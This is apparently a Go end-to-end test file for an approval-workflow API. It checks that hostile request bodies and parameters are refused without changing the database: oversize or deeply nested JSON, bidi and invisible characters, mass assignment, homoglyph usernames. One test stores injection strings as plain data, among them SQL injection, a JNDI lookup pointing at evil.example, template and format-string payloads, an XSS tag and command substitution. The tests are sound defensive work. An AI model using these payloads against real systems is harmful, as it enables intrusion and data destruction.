package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"
)

// Hostile input through the real API (issue 18): every refusal is a 4xx in
// the error shape (the harness checks it against the OpenAPI document and
// its message codes), changes nothing in PostgreSQL and says nothing of
// the internals; SQL- and template-looking text is data, stored and
// answered as written.

// tableCounts counts the rows of every table of the database.
func (s *stack) tableCounts() map[string]int {
	s.t.Helper()
	rows, err := s.pool.Query(context.Background(), `SELECT table_name FROM information_schema.tables WHERE table_schema = current_schema() AND table_type = 'BASE TABLE'`)
	if err != nil {
		s.t.Fatal(err)
	}
	var tables []string
	for rows.Next() {
		var t string
		if err := rows.Scan(&t); err != nil {
			s.t.Fatal(err)
		}
		tables = append(tables, t)
	}
	rows.Close()
	counts := map[string]int{}
	for _, t := range tables {
		counts[t] = s.count(`SELECT count(*) FROM "` + t + `"`)
	}
	return counts
}

// settle waits until every process has its first task and the database
// has stopped changing: the workflows of the processes a test started
// write their tasks after the start has answered.
func (s *stack) settle() {
	s.t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	last := ""
	for time.Now().Before(deadline) {
		waiting := s.count(`SELECT count(*) FROM processes p WHERE state = 'running' AND NOT EXISTS (SELECT 1 FROM tasks t WHERE t.process_id = p.id)`)
		now := fmt.Sprint(s.tableCounts())
		if waiting == 0 && now == last {
			return
		}
		last = now
		time.Sleep(300 * time.Millisecond)
	}
	s.t.Fatalf("the database did not settle in 20s")
}

// internals are what an error must not say unless the caller wrote it.
var internals = []string{"json:", "*json", "encoding/json", "reflect", "main.", "goroutine", ".go:", "runtime.", "github.com/",
	"/home/", "/work/", "/usr/", "pgx", "sqlstate", "select ", "insert ", "update ", "panic", "temporal", "workflow"}

// hostileRoute is a mutating route and a valid body for it: the cases
// spoil one thing of the body each.
type hostileRoute struct {
	name, user, method, path string
	body                     map[string]any
	text                     string   // a string field of the body
	line                     string   // a one-line string field ("" none)
	fields                   []string // the body's fields besides those of body
}

// hostileCase is one spoilt body and what it must answer.
type hostileCase struct {
	name   string
	body   []byte
	status int
	field  string // the field the error names ("" any or none)
	code   string // the message code of the field, or of the error when field is ""
}

// rawJSON writes v as JSON without escaping HTML.
func rawJSON(v any) []byte {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		panic(err)
	}
	return bytes.TrimSpace(b.Bytes())
}

// with is body with field set to v.
func with(body map[string]any, field string, v any) []byte {
	m := map[string]any{}
	for k, x := range body {
		m[k] = x
	}
	m[field] = v
	return rawJSON(m)
}

// massAssigned are the fields a caller would like to set and never may:
// who works a task, its state, who started a process, its candidates, its
// ID, and the level and department where the body does not take them.
var massAssigned = []string{"assignee", "level", "state", "started_by", "department", "candidates", "id"}

func (r hostileRoute) cases() []hostileCase {
	deep := strings.Repeat("[", 10000) + strings.Repeat("]", 10000)
	valid := rawJSON(r.body)
	dup := append([]byte(fmt.Sprintf(`{%q:%s,`, r.text, rawJSON(r.body[r.text]))), valid[1:]...)
	cs := []hostileCase{
		{"oversize", with(r.body, r.text, strings.Repeat("x", 1<<20+10)), http.StatusRequestEntityTooLarge, "", "body.too_large"},
		{"10000 nested arrays", []byte(deep), http.StatusBadRequest, "", "body.too_deep"},
		{"deep nesting in a field", with(r.body, r.text, json.RawMessage(strings.Repeat("[", 100)+strings.Repeat("]", 100))), http.StatusBadRequest, "", "body.too_deep"},
		{"not an object", []byte(`"` + r.text + `"`), http.StatusBadRequest, "", "body.not_object"},
		{"wrong type", with(r.body, r.text, 42), http.StatusBadRequest, r.text, "value.string"},
		{"wrong type: object for text", with(r.body, r.text, map[string]any{"$ne": ""}), http.StatusBadRequest, r.text, "value.string"},
		{"duplicate key", dup, http.StatusBadRequest, r.text, "body.duplicate"},
		{"duplicate key in another case", append([]byte(fmt.Sprintf(`{%q:"x",`, strings.ToUpper(r.text))), valid[1:]...), http.StatusBadRequest, r.text, "body.duplicate"},
		{"invalid UTF-8", bytes.Replace(with(r.body, r.text, "INVALID"), []byte("INVALID"), []byte("a\xff\xfeb"), 1), http.StatusBadRequest, "", "body.utf8"},
		{"NUL", with(r.body, r.text, "a\x00b"), http.StatusBadRequest, r.text, "text.nul"},
		{"bidi override", with(r.body, r.text, "invoice \u202egpj.exe"), http.StatusBadRequest, r.text, "text.bidi"},
		{"bidi isolate", with(r.body, r.text, "a\u2067b\u2069"), http.StatusBadRequest, r.text, "text.bidi"},
		{"trailing data", append(append([]byte{}, valid...), valid...), http.StatusBadRequest, "", "body.trailing"},
	}
	if r.line != "" {
		cs = append(cs,
			hostileCase{"zero-width space in one line", with(r.body, r.line, "ab\u200bc"), http.StatusBadRequest, r.line, "text.invisible"},
			hostileCase{"byte-order mark in one line", with(r.body, r.line, "\ufeffabc"), http.StatusBadRequest, r.line, "text.invisible"},
			hostileCase{"line break in one line", with(r.body, r.line, "ab\nc"), http.StatusBadRequest, r.line, "text.one_line"},
		)
	}
	for _, f := range massAssigned {
		if _, ok := r.body[f]; ok || slices.Contains(r.fields, f) {
			continue
		}
		cs = append(cs, hostileCase{"mass assignment of " + f, with(r.body, f, "gm"), http.StatusBadRequest, f, "field.unknown"})
	}
	return cs
}

// checkHostile sends each case of each route and checks the answer and
// that the database did not change.
func (s *stack) checkHostile(t *testing.T, routes []hostileRoute) int {
	s.settle()
	before := s.tableCounts()
	n := 0
	for _, r := range routes {
		for _, c := range r.cases() {
			t.Run(r.name+"/"+c.name, func(t *testing.T) {
				res := s.call(r.user, r.method, r.path, c.body)
				n++
				if res.Status != c.status {
					t.Fatalf("status %d, want %d: %.500s", res.Status, c.status, res.Body)
				}
				e, ok := res.JSON(t)["error"].(map[string]any)
				if !ok {
					t.Fatalf("no error in %s", res.Body)
				}
				code := ""
				if c.field == "" {
					code, _ = e["message_code"].(map[string]any)["code"].(string)
				} else {
					fc, _ := e["field_codes"].(map[string]any)
					m, ok := fc[c.field].(map[string]any)
					if !ok {
						t.Fatalf("no error for %q in %s", c.field, res.Body)
					}
					code, _ = m["code"].(string)
				}
				if code != c.code {
					t.Errorf("code %q, want %q: %s", code, c.code, res.Body)
				}
				said, sent := strings.ToLower(string(res.Body)), strings.ToLower(string(c.body))
				for _, l := range internals {
					if strings.Contains(said, l) && !strings.Contains(sent, l) {
						t.Errorf("the error says %q: %s", l, res.Body)
					}
				}
			})
		}
	}
	after := s.tableCounts()
	for table, k := range after {
		if before[table] != k {
			t.Errorf("table %s: %d rows before the hostile requests, %d after", table, before[table], k)
		}
	}
	return n
}

// TestHostileInput sends oversize, deep, mistyped, duplicated, invalid
// and tricky bodies to the mutating routes: a start of every kind a user
// may start, completing and commenting a task, customer files, orders,
// designations and user creation.
func TestHostileInput(t *testing.T) {
	s := newStack(t)
	pid := s.startApproval("cs.agent", "hostile", "internal")
	task := s.waitTask(pid, "dept_head_approval")
	s.must(http.StatusOK, s.call("cs.head", "POST", "/api/v1/tasks/"+task+"/claim", nil))
	ts := s.startApproval("gm", "hostile top secret", "top_secret")
	cust := s.must(http.StatusCreated, s.call("sales.rep", "POST", "/api/v1/customers",
		map[string]any{"name": "敌意测试有限公司", "class": "vip", "phone": "13900009999"}))["id"].(string)

	kinds := s.must(http.StatusOK, s.call("cs.agent", "GET", "/api/v1/process-kinds", nil))["kinds"].([]any)
	var routes []hostileRoute
	for _, k := range kinds {
		k := k.(map[string]any)
		kind := k["kind"].(string)
		c, ok := kindCases[kind]
		if !ok {
			t.Fatalf("kind %q has no case in kindCases", kind)
		}
		if len(c.starters) == 0 {
			continue
		}
		user := c.starters[0]
		body := map[string]any{}
		for f, v := range c.body {
			if made, ok := v.(func(*stack, string) any); ok {
				v = made(s, user)
			}
			body[f] = v
		}
		r := hostileRoute{name: "start " + kind, user: user, method: "POST", path: "/api/v1/processes/" + kind, body: body}
		for _, f := range k["start_form"].(map[string]any)["fields"].([]any) {
			f := f.(map[string]any)
			name := f["name"].(string)
			r.fields = append(r.fields, name)
			if _, ok := body[name].(string); ok && f["type"] == "text" && r.text == "" {
				r.text = name // a free text field of the body
			}
		}
		if r.text == "" {
			t.Fatalf("the %s start body has no text field", kind)
		}
		routes = append(routes, r)
	}
	if len(routes) < 5 {
		t.Fatalf("only %d startable kinds", len(routes))
	}
	routes = append(routes,
		hostileRoute{name: "complete", user: "cs.head", method: "POST", path: "/api/v1/tasks/" + task + "/complete",
			body: map[string]any{"outcome": "approve", "data": map[string]any{"opinion": "ok"}, "comment": "ok"}, text: "comment", line: "outcome"},
		hostileRoute{name: "comment", user: "cs.head", method: "POST", path: "/api/v1/tasks/" + task + "/comments",
			body: map[string]any{"body": "a comment"}, text: "body"},
		hostileRoute{name: "customer create", user: "sales.rep", method: "POST", path: "/api/v1/customers",
			body: map[string]any{"name": "另一家公司", "class": "vip", "phone": "13900008888"}, text: "name", line: "name", fields: []string{"level", "department"}},
		hostileRoute{name: "customer edit", user: "sales.rep", method: "PATCH", path: "/api/v1/customers/" + cust,
			body: map[string]any{"contact": "王经理"}, text: "contact", line: "", fields: []string{"level"}},
		hostileRoute{name: "customer edit one line", user: "sales.rep", method: "PATCH", path: "/api/v1/customers/" + cust,
			body: map[string]any{"name": "敌意测试有限公司"}, text: "name", line: "name", fields: []string{"level"}},
		hostileRoute{name: "order", user: "sales.rep", method: "POST", path: "/api/v1/customers/" + cust + "/orders",
			body: map[string]any{"lines": []map[string]any{{"item": "XR-200", "quantity": 1, "unit_price": 10}}, "payment_terms": "月结"}, text: "payment_terms"},
		hostileRoute{name: "designation", user: "gm", method: "POST", path: "/api/v1/designations",
			body: map[string]any{"user": "cs.head", "object": "process:" + ts, "reason": "need to know"}, text: "reason", line: "object"},
		hostileRoute{name: "saved view", user: "cs.head", method: "POST", path: "/api/v1/me/views",
			body: map[string]any{"name": "敌意视图", "filters": map[string]any{"q": "x"}}, text: "name", line: "name", fields: []string{"shared_with"}},
		hostileRoute{name: "user create", user: "sysadmin", method: "POST", path: "/api/v1/admin/users",
			body: map[string]any{"username": "it.hostile", "name": "敌意", "department": "gmo", "clearance": "internal"}, text: "name", line: "username",
			fields: []string{"department"}},
	)
	n := s.checkHostile(t, routes)
	t.Logf("%d hostile requests over %d routes", n, len(routes))

	// Parameters: the same rules, before any handler (refuseControl).
	before := s.tableCounts()
	for _, c := range []struct{ method, path, field, code string }{
		{"GET", "/api/v1/tasks?process=a%E2%80%AEb", "process", "text.bidi"},
		{"GET", "/api/v1/tasks?process=a%E2%80%8Bb", "process", "text.invisible"},
		{"GET", "/api/v1/tasks?process=a%FFb", "process", "text.utf8"},
		{"GET", "/api/v1/processes?state=running%00", "state", "text.nul"},
		{"GET", "/api/v1/tasks/" + task + "%E2%80%8B", "id", "text.invisible"},
		{"POST", "/api/v1/tasks/" + task + "%E2%81%A7/claim", "id", "text.bidi"},
	} {
		r := s.call("cs.head", c.method, c.path, nil)
		e := s.wantError(r, http.StatusBadRequest, "invalid")
		if m, _ := e["field_codes"].(map[string]any)[c.field].(map[string]any); m["code"] != c.code {
			t.Errorf("%s %s: %s, want %s for %s", c.method, c.path, r.Body, c.code, c.field)
		}
	}
	if after := s.tableCounts(); fmt.Sprint(after) != fmt.Sprint(before) {
		t.Errorf("hostile parameters changed the database: %v, then %v", before, after)
	}
}

// TestMassAssignment: the fields that say who works a task, its state,
// who started a process, its candidates and its ID are nobody's to set —
// not in a start body of any kind, not in a completion, not in the data
// of a completion (a key the task's form does not have); level and
// department, where a start takes them, are checked, never trusted.
func TestMassAssignment(t *testing.T) {
	s := newStack(t)
	pid := s.startApproval("cs.agent", "mass assignment", "internal")
	task := s.waitTask(pid, "dept_head_approval")
	s.must(http.StatusOK, s.call("cs.head", "POST", "/api/v1/tasks/"+task+"/claim", nil))
	s.settle()
	before := s.tableCounts()

	kinds := s.must(http.StatusOK, s.call("cs.agent", "GET", "/api/v1/process-kinds", nil))["kinds"].([]any)
	cases := 0
	for _, k := range kinds {
		k := k.(map[string]any)
		kind := k["kind"].(string)
		c := kindCases[kind]
		if len(c.starters) == 0 || kind == "secret-copy" { // secret-copy's body needs a source made for the starter: TestHostileInput covers it
			continue
		}
		user := c.starters[0]
		takes := map[string]bool{}
		for _, f := range k["start_form"].(map[string]any)["fields"].([]any) {
			takes[f.(map[string]any)["name"].(string)] = true
		}
		for _, f := range massAssigned {
			var v any = "gm"
			want := "field.unknown"
			switch {
			case takes[f] && f == "level":
				v, want = "top_secret", "" // above every starter's clearance here
			case takes[f] && f == "department":
				v, want = "moon", ""
			case takes[f]:
				t.Errorf("%s's start takes %q", kind, f)
				continue
			}
			r := s.call(user, "POST", "/api/v1/processes/"+kind, with(c.body, f, v), "Idempotency-Key", s.key(kind+f))
			cases++
			e := s.wantError(r, http.StatusBadRequest, "invalid")
			fc, _ := e["field_codes"].(map[string]any)
			m, ok := fc[f].(map[string]any)
			if !ok {
				t.Errorf("%s with %s=%v: no error for %s: %s", kind, f, v, f, r.Body)
				continue
			}
			if want != "" && m["code"] != want {
				t.Errorf("%s with %s: code %v, want %s", kind, f, m["code"], want)
			}
		}
	}
	complete := "/api/v1/tasks/" + task + "/complete"
	for _, f := range append(massAssigned, "actor", "on_behalf_of", "task_id", "completed_by") {
		body := map[string]any{"outcome": "approve", "data": map[string]any{"opinion": "ok"}, f: "gm"}
		e := s.wantError(s.call("cs.head", "POST", complete, body), http.StatusBadRequest, "invalid")
		if m, _ := e["field_codes"].(map[string]any)[f].(map[string]any); m["code"] != "field.unknown" {
			t.Errorf("complete with %s: %v", f, e)
		}
		body = map[string]any{"outcome": "approve", "data": map[string]any{"opinion": "ok", f: "gm"}}
		e = s.wantError(s.call("cs.head", "POST", complete, body), http.StatusBadRequest, "invalid")
		if m, _ := e["field_codes"].(map[string]any)["data."+f].(map[string]any); m["code"] != "field.not_in_form" {
			t.Errorf("complete with data.%s: %v", f, e)
		}
		cases += 2
	}
	after := s.tableCounts()
	for table, n := range after {
		if before[table] != n {
			t.Errorf("table %s: %d rows before, %d after", table, before[table], n)
		}
	}
	var state, assignee string
	if err := s.pool.QueryRow(context.Background(), `SELECT state, COALESCE(assignee, '') FROM tasks WHERE id = $1`, task).Scan(&state, &assignee); err != nil {
		t.Fatal(err)
	}
	if state != "claimed" || assignee != "cs.head" {
		t.Errorf("task %s: %s by %q after the attempts", task, state, assignee)
	}
	t.Logf("%d mass-assignment attempts refused", cases)
}

// findString reports whether v (decoded JSON) holds the string s.
func findString(v any, s string) bool {
	switch x := v.(type) {
	case string:
		return x == s
	case map[string]any:
		for _, e := range x {
			if findString(e, s) {
				return true
			}
		}
	case []any:
		for _, e := range x {
			if findString(e, s) {
				return true
			}
		}
	}
	return false
}

// TestHostileTextIsData: text that looks like SQL, a template or a lookup
// is stored and answered as written — never run, never expanded.
func TestHostileTextIsData(t *testing.T) {
	s := newStack(t)
	sql := `'; DROP TABLE tasks; -- " OR 1=1`
	tmpl := "{{.Token}} {{template \"x\" .}} ${jndi:ldap://evil.example/a} #{7*7} %s%n%x <script>alert(1)</script> $(id) `id`"
	tasks := s.count(`SELECT count(*) FROM tasks`)
	p := s.must(http.StatusCreated, s.call("cs.agent", "POST", "/api/v1/processes/approval",
		map[string]any{"title": sql, "details": tmpl, "level": "internal"}))
	id := p["id"].(string)
	task := s.waitTask(id, "dept_head_approval")
	got := s.must(http.StatusOK, s.call("cs.agent", "GET", "/api/v1/processes/"+id, nil))
	if got["title"] != sql || !findString(got, tmpl) {
		t.Errorf("process answered %v, want the title and details as written", got)
	}
	s.must(http.StatusCreated, s.call("cs.head", "POST", "/api/v1/tasks/"+task+"/comments", map[string]any{"body": sql + "\n" + tmpl}))
	got = s.must(http.StatusOK, s.call("cs.head", "GET", "/api/v1/tasks/"+task, nil))
	if !findString(got, sql+"\n"+tmpl) {
		t.Errorf("task answered %v, want the comment as written", got)
	}
	name := "Robert'); DROP TABLE customers;-- {{.Token}}"
	c := s.must(http.StatusCreated, s.call("sales.rep", "POST", "/api/v1/customers",
		map[string]any{"name": name, "class": "vip", "phone": "13900007777", "contact": tmpl}))
	if c["name"] != name || c["contact"] != tmpl {
		t.Errorf("customer filed as %v", c)
	}
	got = s.must(http.StatusOK, s.call("sales.rep", "GET", "/api/v1/customers/"+c["id"].(string), nil))
	if !findString(got, name) || !findString(got, tmpl) {
		t.Errorf("customer answered %v", got)
	}
	if n := s.count(`SELECT count(*) FROM tasks`); n != tasks+1 {
		t.Errorf("tasks = %d, want %d", n, tasks+1)
	}
	if n := s.count(`SELECT count(*) FROM customers WHERE name = $1`, name); n != 1 {
		t.Errorf("customers named %q = %d", name, n)
	}
}

// TestUsernamesArePlainASCII: a new account's username is [a-z][a-z0-9._-]:
// a homoglyph (a Cyrillic а in "sаles.rep"), a fullwidth letter, an
// invisible or a bidi character, capitals or spaces are refused with the
// username's own message, and no account is made.
func TestUsernamesArePlainASCII(t *testing.T) {
	s := newStack(t)
	users := s.count(`SELECT count(*) FROM users`)
	for name, c := range map[string]struct{ username, code string }{
		"Cyrillic а":          {"s\u0430les.rep2", "user.username_form"},
		"Greek ο":             {"cs.agent\u03bf", "user.username_form"},
		"fullwidth":           {"ｓales.rep2", "user.username_form"},
		"dotless ı":           {"sales.\u0131t", "user.username_form"},
		"capitals":            {"Sales.Rep2", "user.username_form"},
		"space":               {"sales rep2", "user.username_form"},
		"combining acute":     {"sales.re\u0301p", "user.username_form"},
		"zero-width space":    {"sales\u200b.rep", "text.invisible"},
		"zero-width joiner":   {"sales\u200d.rep", "text.invisible"},
		"right-to-left mark":  {"sales.rep\u200f", "text.invisible"},
		"bidi override":       {"\u202eper.selas", "text.bidi"},
		"trailing line break": {"sales.rep2\n", "text.one_line"},
	} {
		r := s.call("sysadmin", "POST", "/api/v1/admin/users", map[string]any{"username": c.username, "name": "x", "department": "sales", "clearance": "internal"})
		e := s.wantError(r, http.StatusBadRequest, "invalid")
		if m, _ := e["field_codes"].(map[string]any)["username"].(map[string]any); m["code"] != c.code {
			t.Errorf("%s: %s, want %s for username", name, r.Body, c.code)
		}
	}
	// A level that is none is named by its own field.
	e := s.wantError(s.call("sysadmin", "POST", "/api/v1/admin/users", map[string]any{"username": "sales.rep3", "name": "x", "department": "sales", "clearance": "ultra"}),
		http.StatusBadRequest, "invalid")
	if m, _ := e["field_codes"].(map[string]any)["clearance"].(map[string]any); m["code"] != "choice.one_of" {
		t.Errorf("an unknown clearance: %v", e)
	}
	if n := s.count(`SELECT count(*) FROM users`); n != users {
		t.Errorf("users = %d, want %d", n, users)
	}
	// A username the rule allows is accepted (so the refusals above are
	// the username's).
	s.must(http.StatusCreated, s.call("sysadmin", "POST", "/api/v1/admin/users", map[string]any{"username": "sales.rep2", "name": "x", "department": "sales", "clearance": "internal"}))
}
